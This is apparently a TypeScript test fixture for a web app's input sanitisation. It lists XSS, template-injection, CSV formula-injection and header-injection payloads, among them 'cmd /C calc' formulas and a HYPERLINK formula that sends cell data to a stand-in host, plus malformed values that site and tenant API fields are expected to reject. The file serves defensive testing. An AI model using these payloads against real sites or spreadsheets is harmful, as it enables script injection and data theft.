/** Name of the function that runs when a payload did. */
export const CANARY = '__pwned';

const RUN = `${CANARY}()`;

/** What people with bad intentions type where a name or a text is asked for. */
export const PAYLOADS = [
  `</script><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `'><svg/onload=${RUN}>`,
  `</title></style><script>${RUN}</script>`,
  `--><!--><script>${RUN}</script>`,
  `</textarea><details open ontoggle=${RUN}>`,
  `javascript:${RUN}//`,
  `<a href="javascript:${RUN}">x</a>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>">`,
  `<base href="https://evil.example/"><b data-pwned>`,
  `\${${RUN}}{{${RUN}}}<%=${RUN}%>#{${RUN}}`,
  `"}]}</script><script>${RUN}//`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `&lt;script&gt;${RUN}&lt;/script&gt;&#60;img onerror=${RUN}&#62;`,
  `url(javascript:${RUN});}</style><style>*{display:none}`,
  `a\u2028${RUN}\u2029//\u0000</p>`,
  `\u202egnp.exe\u2066 ${RUN}`,
  `=HYPERLINK("https://evil.example?"&A1;"x")`,
  `+1+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|'/C calc'!A0`,
  `-2+3\t=1+1\r\nX-PWNED:1`,
  `__proto__[x]=${RUN}&constructor`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
] as const;

/** Payloads side by side, as many as fit into a text of that length. */
const joined = (payloads: readonly string[], most: number): string =>
  payloads.reduce((text, payload) => (text.length + payload.length < most ? `${text}${payload}` : text), '');

/** Every payload in one long text. */
export const ALL_PAYLOADS = joined([...PAYLOADS].reverse(), 1900);

const NAME_LENGTH = 118;

const bundled = (payloads: readonly string[]): readonly string[] => {
  const bundles: string[] = [];
  for (const payload of payloads) {
    const last = bundles.at(-1);
    const hasRoom = last !== undefined && last.length + payload.length < NAME_LENGTH;
    bundles.push(hasRoom ? `${bundles.pop()}${payload}` : payload);
  }
  return bundles;
};

/** The payloads in texts of a name's length, each of them in one. */
export const SHORT_BUNDLES = bundled(PAYLOADS);

/** Values that a field of its own kind must refuse: an address, a colour, a time zone. */
export const REFUSED: ReadonlyArray<{ readonly path: string; readonly body: object }> = [
  ...[
    'javascript:alert(1)',
    'data:text/html,x',
    '//evil.example',
    'https://a\\@evil',
    'http://x.example',
  ].flatMap((url) => [
    { path: '/v1/sites/current', body: { canonicalUrl: url } },
    { path: '/v1/sites/current', body: { seo: { ogImageUrl: url } } },
  ]),
  ...['red', '#12', '#fff;}*{}', 'url(javascript:1)', '</style>'].map((primaryColor) => ({
    path: '/v1/sites/current',
    body: { primaryColor },
  })),
  { path: '/v1/sites/current', body: { slug: '"><script>' } },
  { path: '/v1/sites/current', body: { theme: 'light"><script>' } },
  { path: '/v1/tenants/current', body: { timezone: '"><script>' } },
  { path: '/v1/tenants/current', body: { phone: '"><script>' } },
];
